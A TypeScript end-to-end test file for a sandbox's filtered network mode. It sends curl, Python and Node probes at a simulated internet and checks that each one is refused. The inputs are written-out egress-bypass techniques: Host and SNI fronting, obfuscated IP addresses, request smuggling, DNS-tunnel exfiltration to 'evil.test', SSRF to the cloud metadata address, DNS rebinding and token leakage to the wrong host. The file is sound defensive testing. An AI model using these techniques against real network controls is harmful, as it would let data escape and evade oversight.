/**
 * A filtered network: git, curl, Python and Node reach what is allowed and nothing else, and each refusal is told with
 * its reason. The internet is a network namespace of the test's own (test/e2e/network/world.ts); what counts is what
 * its servers saw.
 */
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { after, before, describe, test } from 'node:test';
import { WorldClient, type WorldRun } from '../e2e/network/world-client.ts';
import { running } from '../processes.ts';
import { until } from '../until.ts';

const missing = ['curl', 'git', 'python3'].find(
  (name) => spawnSync('sh', ['-c', `command -v ${name}`]).status !== 0,
);
const rootless = process.getuid?.() === 0 ? false : 'needs root';
const skip = missing === undefined ? rootless : `${missing} is not installed`;
let world: WorldClient;

const filtered = (...allow: string[]) =>
  ({ level: 'strict', network: { mode: 'filtered', allow } }) as const;
const one = filtered('one.test:80,443');
const intercepted = {
  level: 'strict',
  network: { mode: 'filtered', allow: ['one.test:443'], intercept: true },
} as const;

const curl = (...args: string[]): string[] => ['curl', '-sS', '-m', '5', ...args];
const paths = ({ seen }: WorldRun): string[] => seen.requests.map(({ host, path }) => host + path);

/** Nothing came through, and the reason is told, in the outcome and to the observer. */
function refused(run: WorldRun, reason: RegExp, allowedNames: readonly string[] = []): void {
  assert.deepEqual(paths(run), [], run.stdout);
  assert.deepEqual(run.seen.strays, []);
  assert.deepEqual(
    run.seen.names.filter((name) => !allowedNames.includes(name)),
    [],
  );
  const reasons = run.violations.map((violation) => `${violation.target}: ${violation.reason}`);
  assert.ok(
    reasons.some((each) => reason.test(each)),
    `${reason}\n${reasons.join('\n')}\n${run.stderr}`,
  );
  const told = run.events.flatMap((event) => (event.kind === 'violation' ? [event.violation] : []));
  assert.deepEqual(told, run.violations);
}

const python = (script: string): string[] => ['python3', '-c', script];
const node = (script: string): string[] => ['node', '--input-type=module', '-e', script];

describe('a small internet', { skip }, () => {
  before(async () => {
    world = await WorldClient.start();
  });
  after(() => world.stop());

  test('curl, Python, Node and git reach an allowed name, by HTTP and by TLS', async () => {
    assert.deepEqual(paths(await world.run(curl('http://one.test/a'), one)), ['one.test/a']);
    assert.deepEqual(paths(await world.run(curl('-k', 'https://one.test/b'), one)), ['one.test/b']);
    const fetched = python(
      "import urllib.request as u; print(u.urlopen('http://one.test/c', timeout=5).read().decode())",
    );
    assert.deepEqual(paths(await world.run(fetched, one)), ['one.test/c']);
    const dns = node(`import { lookup, resolve4 } from 'node:dns/promises';
    console.log((await resolve4('one.test')).join(), (await lookup('one.test')).address);
    console.log(await (await fetch('http://one.test/d')).text());`);
    const run = await world.run(dns, one);
    assert.deepEqual(paths(run), ['one.test/d'], run.stderr);
    assert.match(run.stdout, /^198\.51\.100\.10 /);
    const git = await world.run(['git', 'ls-remote', 'http://one.test/repo'], one);
    assert.deepEqual(paths(git), ['one.test/repo/info/refs?service=git-upload-pack'], git.stderr);
  });

  test('an allowed name is reached over IPv6, too', async () => {
    const run = await world.run(curl('-6', 'http://one.test/six'), one);
    assert.deepEqual(paths(run), ['one.test/six'], run.stderr);
    assert.equal(run.seen.requests[0]?.address, '2001:db8::10');
  });

  test('what is refused below is refused by the rules: without them each of it passes', async () => {
    const all = filtered('*:*', '0.0.0.0/0:*', '[::]/0:*');
    for (const [args, path] of [
      [['http://two.test/x'], 'two.test/x'],
      [['http://198.51.100.20/x'], '198.51.100.20/x'],
      [['-H', 'Host: two.test', 'http://one.test/x'], 'two.test/x'],
      [['-k', '--connect-to', 'two.test:443:one.test:443', 'https://two.test/x'], 'two.test/x'],
      [['http://10.1.2.3/x'], '10.1.2.3/x'],
    ] as const) {
      const run = await world.run(curl(...args), all);
      assert.deepEqual(paths(run), [path], run.stderr);
    }
  });

  test('another name is not even resolved', async () => {
    refused(await world.run(curl('http://two.test/'), one), /two\.test is not allowed.*allow:/);
    refused(await world.run(curl('-k', 'https://three.test/'), one), /three\.test is not allowed/);
  });

  test('not by address, with or without the name of another', async () => {
    refused(await world.run(curl('http://198.51.100.20/'), one), /198\.51\.100\.20:80/);
    refused(await world.run(curl('-k', 'https://198.51.100.20/'), one), /198\.51\.100\.20:443/);
    refused(await world.run(curl('http://[2001:db8::10]/'), one), /2001:db8::10/);
    for (const odd of ['0xC6.0x33.0x64.0x14', '3325256724', '0306.063.0144.024']) {
      refused(await world.run(curl(`http://${odd}/`), one), /198\.51\.100\.20/);
    }
  });

  test('not by another name on the same address: Host and SNI are checked', async () => {
    const host = curl('-H', 'Host: two.test', 'http://one.test/');
    refused(await world.run(host, one), /two\.test/, ['one.test']);
    const sni = curl('-k', '--connect-to', 'two.test:443:one.test:443', 'https://two.test/');
    refused(await world.run(sni, one), /two\.test/, ['one.test']);
    const second = python(`
import socket
s = socket.create_connection(('one.test', 80), 5)
s.sendall(b'GET /first HTTP/1.1\\r\\nHost: one.test\\r\\n\\r\\n'); print(s.recv(65536))
s.sendall(b'GET /second HTTP/1.1\\r\\nHost: two.test\\r\\n\\r\\n'); print(s.recv(65536))`);
    const run = await world.run(second, one);
    assert.deepEqual(paths(run), ['one.test/first'], run.stdout);
    assert.ok(
      run.violations.some(({ reason }) => reason.includes('two.test')),
      JSON.stringify([run.stdout, run.violations]),
    );
  });

  test('an allowed name on an address that is not its own is refused', async () => {
    const elsewhere = curl('-k', '--resolve', 'one.test:443:198.51.100.20', 'https://one.test/');
    refused(await world.run(elsewhere, one), /no address of it/, ['one.test']);
  });

  test('TLS without a name is refused', async () => {
    const nameless = python(`
import socket, ssl
c = ssl._create_unverified_context()
c.wrap_socket(socket.create_connection(('one.test', 443), 5)).sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')`);
    refused(await world.run(nameless, one), /server name|SNI|without/i, ['one.test']);
  });

  test('not by UDP, QUIC, ICMP or another name server; DNS carries nothing out', async () => {
    const send = (port: number, address: string): string[] =>
      python(`
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
try:
  s.connect(('${address}', ${port})); s.send(b'x'); s.recv(1)
except OSError as e: print(e)`);
    refused(await world.run(send(9999, '198.51.100.20'), one), /198\.51\.100\.20:9999\/udp/);
    refused(await world.run(send(443, '198.51.100.20'), one), /QUIC/);
    refused(await world.run(send(53, '198.51.100.10'), one), /resolver at 127\.0\.0\.1/);
    const tunnel = python(`
import socket
for i in range(40):
  try: socket.getaddrinfo('secret-%d.one.test' % i, 80)
  except OSError: pass
  try: socket.getaddrinfo('secret-%d.evil.test' % i, 80)
  except OSError: pass`);
    refused(await world.run(tunnel, one), /secret-\d+\.(one|evil)\.test/);
  });

  test('not by a raw socket, a packet socket, or netlink', async () => {
    const raw = python(`
import socket
for family, kind, protocol in [(socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET6, socket.SOCK_RAW, 58),
    (socket.AF_PACKET, socket.SOCK_RAW, 3), (socket.AF_NETLINK, socket.SOCK_RAW, 12), (socket.AF_VSOCK, socket.SOCK_STREAM, 0)]:
  try: socket.socket(family, kind, protocol); print('made', family)
  except OSError as e: print(e.errno)`);
    const run = await world.run(raw, { ...one, onViolation: 'record' });
    assert.doesNotMatch(run.stdout, /made/);
    assert.equal(run.stdout.trim().split('\n').length, 5);
  });

  test('a redirect leads nowhere that is not allowed', async () => {
    const away = await world.run(curl('-L', 'http://one.test/away'), one);
    assert.deepEqual(paths(away), ['one.test/away']);
    assert.ok(away.violations.some(({ target }) => target === 'three.test'));
    const inward = await world.run(curl('-L', 'http://one.test/inward'), one);
    assert.deepEqual(paths(inward), ['one.test/inward']);
  });

  test('a name that leads inward is refused, also when it comes to do so later', async () => {
    const names = filtered('inner.test:80', 'cloud.test:80', 'moved.test:80');
    refused(await world.run(curl('http://inner.test/'), names), /10\.1\.2\.3.*private/, [
      'inner.test',
    ]);
    refused(await world.run(curl('http://cloud.test/'), names), /169\.254\.169\.254/, [
      'cloud.test',
    ]);
    assert.deepEqual(paths(await world.run(curl('http://moved.test/ok'), names)), [
      'moved.test/ok',
    ]);
    await world.point('moved.test', ['10.1.2.3']);
    await new Promise((resolve) => setTimeout(resolve, 1100));
    refused(await world.run(curl('http://moved.test/'), names), /10\.1\.2\.3/, ['moved.test']);
    const named = filtered('inner.test:80', '10.1.2.3:80');
    assert.deepEqual(paths(await world.run(curl('http://inner.test/in'), named)), [
      'inner.test/in',
    ]);
  });

  test('tricks with a name: capitals and a dot are the name; NUL and IP-like names are none', async () => {
    assert.deepEqual(paths(await world.run(curl('http://ONE.test./x'), one)).length, 1);
    const nul = python(`
import socket
s = socket.create_connection(('one.test', 80), 5)
s.sendall(b'GET / HTTP/1.1\\r\\nHost: one.test\\0.two.test\\r\\n\\r\\n'); print(s.recv(65536))`);
    const run = await world.run(nul, one);
    assert.deepEqual(paths(run), []);
  });

  test('intercepted: the requests of an allowed name pass, a forged host does not, and the guest trusts it', async () => {
    const run = await world.run(curl('https://one.test/read'), intercepted);
    assert.deepEqual(paths(run), ['one.test/read'], run.stderr);
    const fronted = curl('-H', 'Host: two.test', 'https://one.test/');
    refused(await world.run(fronted, intercepted), /two\.test/, ['one.test']);
    const fetched = python(
      "import urllib.request as u; print(u.urlopen('https://one.test/c', timeout=5).read().decode())",
    );
    assert.deepEqual(paths(await world.run(fetched, intercepted)), ['one.test/c']);
  });

  test('intercepted: TLS that a rule allows by address is passed on unopened, and the guest can verify it', async () => {
    const policy = {
      level: 'strict',
      network: {
        mode: 'filtered',
        intercept: true,
        allow: ['one.test:443', '198.51.100.20/32:443'],
      },
    } as const;
    const at = curl('--resolve', 'three.test:443:198.51.100.20', 'https://three.test/by-address');
    const run = await world.run(at, policy);
    assert.deepEqual(paths(run), ['three.test/by-address'], run.stderr);
  });

  test('intercepted: methods and paths hold', async () => {
    const policy = {
      level: 'strict',
      network: {
        mode: 'filtered',
        intercept: true,
        allow: [{ host: 'one.test:443', http: ['GET /open/**'] }],
      },
    } as const;
    assert.deepEqual(paths(await world.run(curl('https://one.test/open/x'), policy)), [
      'one.test/open/x',
    ]);
    refused(await world.run(curl('https://one.test/closed'), policy), /closed/, ['one.test']);
    refused(await world.run(curl('-X', 'POST', 'https://one.test/open/x'), policy), /POST/, [
      'one.test',
    ]);
    refused(
      await world.run(curl('--path-as-is', 'https://one.test/open/../closed'), policy),
      /closed/,
      ['one.test'],
    );
  });

  test('a secret reaches its own host alone, and is never inside', async () => {
    const policy = {
      level: 'strict',
      network: {
        mode: 'filtered',
        intercept: true,
        allow: ['one.test:443', 'two.test:443'],
        secrets: { API_TOKEN: { hosts: ['one.test'] } },
      },
    } as const;
    const send = (host: string): string[] => [
      'sh',
      '-c',
      `echo "$API_TOKEN"; curl -sS -m 5 -H "Authorization: Bearer $API_TOKEN" https://${host}/`,
    ];
    const secrets = { API_TOKEN: 'the-real-value' };
    const right = await world.run(send('one.test'), policy, secrets);
    assert.equal(right.seen.requests[0]?.token, 'Bearer the-real-value', right.stderr);
    assert.match(right.stdout, /^caisson-secret-[0-9a-f]{32}\n/);
    assert.doesNotMatch(
      JSON.stringify([right.stdout, right.stderr, right.events]),
      /the-real-value/,
    );
    const wrong = await world.run(send('two.test'), policy, secrets);
    assert.doesNotMatch(wrong.seen.requests[0]?.token ?? '', /the-real-value/);
    assert.ok(wrong.violations.some(({ reason }) => /API_TOKEN/.test(reason)));
  });

  test("the host's own loopback is not the guest's", async () => {
    const run = await world.run(curl('http://127.0.0.1:80/'), filtered('*:*', '0.0.0.0/0:*'));
    assert.deepEqual(paths(run), []);
    assert.equal(run.code, 7, run.stderr);
  });

  test('with the proxy killed nothing passes', async () => {
    const between = `${60 + process.pid / 1e6}`;
    const held = world.run(
      [
        'sh',
        '-c',
        `curl -sS -m 15 http://one.test/before; sleep ${between}; curl -sS -m 3 http://one.test/after`,
      ],
      one,
    );
    await until('the first one has ended', () => running('sleep', between).length === 1);
    const proxies = world.processes('proxy-process');
    assert.equal(proxies.length, 1);
    for (const pid of proxies) process.kill(pid, 'SIGKILL');
    for (const pid of running('sleep', between)) process.kill(pid, 'SIGKILL');
    const run = await held;
    assert.deepEqual(paths(run), ['one.test/before'], run.stdout + run.stderr);
    assert.ok(run.violations.some(({ reason }) => /proxy process .* ended/.test(reason)));
    // The next sandbox has another one.
    assert.deepEqual(paths(await world.run(curl('http://one.test/next'), one)), ['one.test/next']);
  });

  test('nothing is left of it', async () => {
    await world.run(curl('http://one.test/'), intercepted);
    const left = execFileSync('sh', ['-c', `ls -A ${world.state}/networks`], { encoding: 'utf8' });
    assert.equal(left, '');
  });

  test('with onViolation: kill a refusal ends the run', async () => {
    const strict = { ...one, onViolation: 'kill' } as const;
    const run = await world.run(['sh', '-c', 'curl -sS -m 5 http://two.test/; sleep 9'], strict);
    assert.equal(run.kind, 'denied');
    refused(run, /two\.test is not allowed/);
    const fine = await world.run(curl('http://one.test/fine'), strict);
    assert.deepEqual([fine.kind, ...paths(fine)], ['exited', 'one.test/fine']);
  });

  test('a port that no rule names is refused with its reason', async () => {
    refused(await world.run(curl('http://one.test:9999/'), one), /one\.test:9999/, ['one.test']);
  });
});
